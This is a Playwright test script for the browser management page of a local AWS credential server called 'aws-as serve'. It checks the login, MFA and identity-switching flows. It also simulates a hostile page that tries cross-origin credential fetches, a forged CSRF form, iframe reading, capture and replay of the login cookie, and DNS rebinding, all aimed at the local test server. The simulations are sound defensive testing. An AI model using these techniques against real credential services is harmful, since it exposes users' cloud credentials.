// The management page of `aws-as serve` in headless Chromium, as a person uses it and as a
// hostile page in the same browser tries to: node tests/browser/manage.mjs CONFIG.json
//
// CONFIG (written by tests/manage_page.rs): { base: "http://127.0.0.1:PORT", login: the one-time
// login URL, pid: the server's pid, served, other, user (profile names), wrong, right (MFA codes:
// STS rejects the first), sdk: { program, args, env } (boto3 through the IMDS endpoint: exit 0
// and the ARN on stdout when it got credentials), screenshots: a directory }.
//
// It asserts what a person would see, step by step, and prints one JSON object of what it found
// for the Rust test to check again (statuses, timings, what the attacker page could read). Any
// failed step ends it with exit 1 and the step's message on stderr.
import { chromium } from 'playwright-core';
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import http from 'node:http';
import { launchOptions } from './launch.mjs';

const config = JSON.parse(readFileSync(process.argv[2], 'utf8'));
const base = config.base;
const port = new URL(base).port;
const result = { steps: [] };
const step = (name) => { result.steps.push(name); };
const fail = (message) => { throw new Error(`${result.steps.at(-1) || 'start'}: ${message}`); };
const check = (ok, message) => { if (!ok) fail(message); };

function sdk() {
  const { program, args, env } = config.sdk;
  const out = spawnSync(program, args, { env, encoding: 'utf8', timeout: 60000 });
  return { status: out.status, stdout: out.stdout || '', stderr: out.stderr || '' };
}

// The attacker: a page on another loopback port. It is served under /manage/ on purpose: a
// browser sends a cookie of 127.0.0.1 to every port of 127.0.0.1 whose path matches, so this
// server receives the aws-as login cookie, as a hostile local server would.
const attacker = { cookies: [], reports: [] };
const ATTACK_PAGE = `<!doctype html><meta charset=utf-8><title>attacker</title><body><script>
const target = ${JSON.stringify(base)};
async function attempt(name, run) {
  try {
    const r = await run();
    let body = '';
    try { body = await r.text(); } catch (e) { body = '<unreadable: ' + e.name + '>'; }
    return { name, outcome: r.type === 'opaque' ? 'opaque' : 'read', status: r.status, body };
  } catch (e) {
    return { name, outcome: 'blocked', error: String(e) };
  }
}
(async () => {
  const form = { 'Content-Type': 'application/x-www-form-urlencoded' };
  const results = [
    await attempt('GET /manage/profiles', () => fetch(target + '/manage/profiles', { credentials: 'include' })),
    await attempt('GET /manage/session', () => fetch(target + '/manage/session', { credentials: 'include' })),
    await attempt('GET /manage', () => fetch(target + '/manage', { credentials: 'include' })),
    await attempt('POST /manage/session', () => fetch(target + '/manage/session',
      { method: 'POST', credentials: 'include', headers: form, body: 'session=${config.user}' })),
    await attempt('POST /manage/session no-cors', () => fetch(target + '/manage/session',
      { method: 'POST', mode: 'no-cors', credentials: 'include', headers: form, body: 'session=${config.user}' })),
    await attempt('DELETE /manage/session', () => fetch(target + '/manage/session',
      { method: 'DELETE', credentials: 'include' })),
    await attempt('POST /manage/login', () => fetch(target + '/manage/login', { method: 'POST', credentials: 'include' })),
    await attempt('PUT /latest/api/token', () => fetch(target + '/latest/api/token',
      { method: 'PUT', headers: { 'X-aws-ec2-metadata-token-ttl-seconds': '21600' } })),
    await attempt('GET IMDS credentials', () => fetch(target + '/latest/meta-data/iam/security-credentials/${config.other}')),
    await attempt('GET ECS credentials', () => fetch(target + '/ecs/${config.other}', { headers: { Authorization: 'x' } })),
  ];
  const frame = document.createElement('iframe');
  frame.src = target + '/manage';
  document.body.append(frame);
  await new Promise((ok) => { frame.onload = ok; setTimeout(ok, 3000); });
  let framed;
  try { framed = frame.contentDocument ? 'read: ' + frame.contentDocument.body.innerText : 'blocked'; }
  catch (e) { framed = 'blocked'; }
  results.push({ name: 'iframe /manage', outcome: framed.startsWith('read') ? 'read' : 'blocked', body: framed });
  // A same-site request to this server: the browser adds the aws-as cookie (see above).
  await fetch('/manage/steal', { credentials: 'include' });
  await fetch('/report', { method: 'POST', body: JSON.stringify(results) });
  document.title = 'done';
})();
</script>`;
const FORGED_FORM = `<!doctype html><meta charset=utf-8><title>forged</title>
<form method=POST action="${base}/manage/session"><input name=session value="${config.user}"></form>
<script>document.forms[0].submit();</script>`;

const attackServer = http.createServer((req, res) => {
  if (req.headers.cookie) attacker.cookies.push({ path: req.url, cookie: req.headers.cookie });
  if (req.url === '/report' && req.method === 'POST') {
    let body = '';
    req.on('data', (d) => { body += d; });
    req.on('end', () => { attacker.reports = JSON.parse(body); res.end('ok'); });
    return;
  }
  res.setHeader('Content-Type', 'text/html; charset=utf-8');
  if (req.url === '/manage/evil.html') res.end(ATTACK_PAGE);
  else if (req.url === '/manage/forged.html') res.end(FORGED_FORM);
  else res.end('');
});
await new Promise((ok) => attackServer.listen(0, '127.0.0.1', ok));
const attackBase = `http://127.0.0.1:${attackServer.address().port}`;

// A request from no browser at all, as a hostile local process replays what it caught.
function replay(method, path, headers, body) {
  return new Promise((ok, bad) => {
    const req = http.request(`${base}${path}`, { method, headers }, (res) => {
      let text = '';
      res.on('data', (d) => { text += d; });
      res.on('end', () => ok({ status: res.statusCode, body: text }));
    });
    req.on('error', bad);
    if (body) req.write(body);
    req.end();
  });
}

const rebound = `http://rebound.example:${port}`;
const options = structuredClone(launchOptions);
// DNS rebinding as the browser sees it: a name of the attacker's that now points at 127.0.0.1.
options.args = options.args.map((a) => a.startsWith('--host-resolver-rules=')
  ? a.replace('=', '=MAP rebound.example 127.0.0.1, ') : a);
const browser = await chromium.launch(options);
let page;
const rowOf = (name) => page.locator('#identities tr').filter({ has: page.locator('td.name', { hasText: name }) });
try {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  page = await context.newPage();
  // Everything the page loads: its own origin only (no CDN, no fonts, nothing else).
  result.pageRequests = [];
  page.on('request', (r) => { if (!r.url().startsWith('data:')) result.pageRequests.push(r.url().split('?')[0]); });

  step('log in with the one-time address');
  const first = await page.goto(config.login);
  check(first && first.ok(), `the login answered ${first && first.status()}`);
  await page.waitForFunction(() => !location.hash && !location.search);
  result.address = page.url();
  check(result.address === `${base}/manage`, `the address bar shows ${result.address}`);
  const cookies = await context.cookies(`${base}/manage`);
  const cookie = cookies.find((c) => c.name === `aws-as-manage-${port}`);
  check(cookie, `no login cookie among ${cookies.map((c) => c.name)}`);
  result.cookie = { httpOnly: cookie.httpOnly, sameSite: cookie.sameSite, path: cookie.path };
  result.scriptSeesCookie = await page.evaluate(() => document.cookie.includes('aws-as-manage'));

  step('see every identity');
  const rows = page.locator('#identities tr');
  await rows.nth(2).waitFor({ timeout: 5000 });
  result.rows = await rows.evaluateAll((trs) => trs.map((tr) => [...tr.cells].map((td) => td.innerText.trim())));
  result.servedRow = await page.locator('#identities tr.served td.name').innerText();

  step('the login address works once');
  const again = await context.newPage();
  const replayed = await again.goto(config.login);
  result.replayedLogin = { status: replayed.status(), text: await again.locator('body').innerText() };
  await again.close();

  step('a request that needs an MFA code shows up within 2 s');
  const before = sdk();
  result.sdkBefore = { status: before.status, stderr: before.stderr.trim() };
  const asked = Date.now();
  const pending = page.locator('form.pending');
  await pending.waitFor({ state: 'visible', timeout: 2000 });
  result.pendingAfterMs = Date.now() - asked;
  result.pendingText = await pending.locator('.what').innerText();
  await page.screenshot({ path: `${config.screenshots}/manage-page.png`, fullPage: true });

  step('a code STS rejects');
  const code = page.getByLabel(`MFA code for ${config.user}`);
  await code.fill(config.wrong);
  await pending.getByRole('button', { name: 'Send code' }).click();
  const error = pending.locator('.error');
  await error.filter({ hasText: 'rejected' }).waitFor({ timeout: 15000 });
  result.rejected = await error.innerText();

  step('the right code, typed and sent with the keyboard');
  await code.focus();
  await page.keyboard.press('Control+A');
  await page.keyboard.type(config.right);
  await page.keyboard.press('Enter');
  await page.locator('#pending-section').waitFor({ state: 'hidden', timeout: 15000 });
  result.afterCode = await page.locator('#banner').innerText();
  const after = sdk();
  result.sdkAfter = { status: after.status, stdout: after.stdout.trim(), stderr: after.stderr.trim() };
  check(after.status === 0, `boto3 after the code: ${after.stderr}`);
  for (const name of [config.user, config.served]) {
    await rowOf(name).locator('td[data-label="Session"]', { hasText: 'left' }).waitFor({ timeout: 5000 });
  }

  step('serve another identity with the keyboard');
  const serve = page.getByRole('button', { name: `Serve ${config.other} on the IMDS path` });
  await serve.focus();
  await page.keyboard.press('Enter');
  await rowOf(config.other).and(page.locator('tr.served')).waitFor({ timeout: 5000 });
  result.servedAfterSwitch = await page.locator('#identities tr.served td.name').innerText();
  result.focusAfterSwitch = await page.evaluate(() => [document.activeElement.id, document.activeElement.innerText]);
  await page.keyboard.press('Tab');
  result.focusAfterTab = await page.evaluate(() => document.activeElement.getAttribute('aria-label'));

  step('clear a session');
  await page.getByRole('button', { name: `Clear the session of ${config.user}` }).click();
  const userRow = rowOf(config.user);
  await userRow.locator('td[data-label="Session"]', { hasText: 'none' }).waitFor({ timeout: 5000 });
  result.clearedRow = await userRow.evaluate((tr) => [...tr.cells].map((td) => td.innerText.trim()));

  step('readable at 400 px');
  await page.setViewportSize({ width: 400, height: 900 });
  await page.waitForTimeout(300);
  result.narrow = await page.evaluate(() => ({
    scrollWidth: document.documentElement.scrollWidth,
    buttonsVisible: [...document.querySelectorAll('button')].every((b) => {
      const r = b.getBoundingClientRect();
      return r.right <= 400 && r.left >= 0;
    }),
  }));
  await page.screenshot({ path: `${config.screenshots}/manage-page-400.png`, fullPage: true });
  await page.setViewportSize({ width: 1280, height: 900 });

  step('a page on another loopback port');
  const evil = await context.newPage();
  await evil.goto(`${attackBase}/manage/evil.html`);
  await evil.waitForFunction(() => document.title === 'done', null, { timeout: 20000 });
  result.attacks = attacker.reports;
  await evil.close();

  step('a form on another port posts to the API');
  const forged = await context.newPage();
  const navigated = forged.waitForNavigation({ url: `${base}/manage/session` });
  await forged.goto(`${attackBase}/manage/forged.html`);
  const landed = await navigated;
  result.forgedForm = { status: landed.status(), text: await forged.locator('body').innerText() };
  await forged.close();

  step('what the other port received, replayed without the CSRF token');
  const stolen = attacker.cookies.map((c) => c.cookie).find((c) => c.includes(`aws-as-manage-${port}=`));
  result.cookieReachedOtherPort = Boolean(stolen);
  const host = { Host: new URL(base).host, Cookie: stolen || '' };
  result.replays = {
    get: await replay('GET', '/manage/profiles', host),
    post: await replay('POST', '/manage/session', { ...host, Origin: base,
      'Content-Type': 'application/x-www-form-urlencoded' }, `session=${config.user}`),
    wrongCsrf: await replay('POST', '/manage/session', { ...host, Origin: base, 'X-CSRF-Token': 'f'.repeat(64),
      'Content-Type': 'application/x-www-form-urlencoded' }, `session=${config.user}`),
  };

  step('a rebound DNS name');
  const rebind = await context.newPage();
  const reboundPage = await rebind.goto(`${rebound}/manage`);
  result.rebound = { status: reboundPage.status(), text: await rebind.locator('body').innerText() };
  await rebind.close();

  step('nothing changed');
  await page.bringToFront();
  await page.waitForTimeout(1500);
  result.servedAtEnd = await page.locator('#identities tr.served td.name').innerText();
  result.summaryAtEnd = await page.locator('#summary').innerText();

  step('the server goes away');
  process.kill(config.pid, 'SIGTERM');
  const gone = Date.now();
  await page.locator('#banner', { hasText: 'not answering' }).waitFor({ timeout: 6000 });
  result.goneAfterMs = Date.now() - gone;
  result.goneBanner = await page.locator('#banner').innerText();
  result.buttonsDisabled = await page.evaluate(() => [...document.querySelectorAll('button')].every((b) => b.disabled));
  await page.screenshot({ path: `${config.screenshots}/manage-page-gone.png` });
  step('done');
} catch (err) {
  console.error(`manage.mjs: ${err.message}`);
  process.exitCode = 1;
} finally {
  await browser.close();
  attackServer.close();
  console.log(JSON.stringify(result));
}
